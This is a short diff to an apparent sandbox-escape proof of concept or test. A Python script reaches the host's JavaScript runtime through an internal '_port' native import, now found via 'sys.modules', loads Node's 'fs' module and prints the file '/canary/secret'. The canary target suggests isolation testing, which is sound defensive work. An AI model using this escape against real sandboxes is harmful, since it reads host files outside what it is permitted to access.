@@ -1,7 +1,7 @@
 """Read the host's disk through `js`, which the native import hands over."""
 
-import machine
+import sys
 
-js = machine._clock._port.native_import("js")
+js = sys.modules["_port"].native_import("js")
 fs = js.process.getBuiltinModule("fs")
 print(fs.readFileSync("/canary/secret", "utf8"))
